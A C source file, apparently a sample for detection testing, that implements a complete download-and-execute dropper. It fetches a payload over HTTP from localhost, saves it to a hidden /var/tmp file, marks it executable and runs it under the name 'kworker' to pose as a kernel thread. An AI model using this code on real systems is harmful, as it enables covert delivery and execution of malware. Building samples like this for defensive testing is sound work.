/* dropexec (C): HTTP GET over a raw socket, write the body under /var/tmp,
 * fchmod it executable, execve it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#include "mark.h"

static char buf[1 << 20];

int main(void) {
	int port = atoi(getenv("RD_HTTP"));
	RD_BEGIN("dropexec");
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
	if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
	const char *req = "GET /payload HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n";
	write(s, req, strlen(req));
	size_t n = 0;
	ssize_t r;
	while ((r = read(s, buf + n, sizeof buf - n)) > 0) n += r;
	close(s);
	char *body = memmem(buf, n, "\r\n\r\n", 4);
	if (!body) return 1;
	body += 4;
	const char *p = "/var/tmp/.rd-cache-7f3a";
	int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	write(fd, body, n - (body - buf));
	fchmod(fd, 0755);
	close(fd);
	char *argv[] = {"kworker", NULL};
	execve(p, argv, NULL);
	return 1;
}
